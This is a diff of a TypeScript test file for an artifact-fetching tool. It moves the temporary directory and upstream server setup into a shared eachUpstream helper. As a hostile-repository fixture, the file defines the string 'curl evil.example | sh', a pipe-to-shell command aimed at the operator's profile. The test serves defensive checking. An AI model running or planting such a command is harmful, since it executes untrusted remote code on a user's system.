@@ -3,7 +3,6 @@ import {
   linkSync,
   lstatSync,
   mkdirSync,
-  mkdtempSync,
   readdirSync,
   readFileSync,
   rmSync,
@@ -11,27 +10,17 @@ import {
   writeFileSync,
 } from 'node:fs';
 import { execFileSync } from 'node:child_process';
-import { tmpdir } from 'node:os';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { dirname, join } from 'node:path';
-import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import { get } from '../../src/artifacts/http.ts';
 import { pick } from '../../src/artifacts/upstream.ts';
 import { cniPluginNames } from '../../src/core/cni-plugins.ts';
 import type { ArtifactIndex } from '../../src/states/stage.ts';
 import { tarball, type TarEntry } from '../bad-input/tar.ts';
-import {
-  clusterWith,
-  openWithPins,
-  program,
-  sha256,
-  startUpstream,
-  stock,
-  sums,
-  type Upstream,
-  URLS,
-} from '../artifacts/upstream.ts';
+import { eachUpstream } from '../artifacts/each-upstream.ts';
+import { clusterWith, openWithPins, program, sha256, stock, sums, type Upstream, URLS } from '../artifacts/upstream.ts';
 
 /** What a repository would like to have in the operator's profile. */
 const LINE = 'curl evil.example | sh\n';
@@ -44,9 +33,9 @@ let shelf: string;
 /** Belongs to the operator, and lies outside the repository. */
 let profile: string;
 
-beforeEach(async () => {
-  upstream = await startUpstream();
-  scratch = mkdtempSync(join(tmpdir(), 'mcpk-hostile-'));
+eachUpstream(({ folder, ...fresh }) => {
+  ({ upstream } = fresh);
+  scratch = folder;
   repository = join(scratch, 'repository');
   directory = join(repository, 'artifacts');
   shelf = join(directory, 'kubernetes/1.37.1/linux-amd64');
@@ -55,10 +44,6 @@ beforeEach(async () => {
   mkdirSync(repository);
   writeFileSync(profile, 'mine\n');
   writeFileSync(join(repository, 'lab.yaml'), '');
-});
-afterEach(async () => {
-  await upstream.close();
-  rmSync(scratch, { recursive: true });
 });
 
 const fetching = (at = directory): Promise<ArtifactIndex> =>
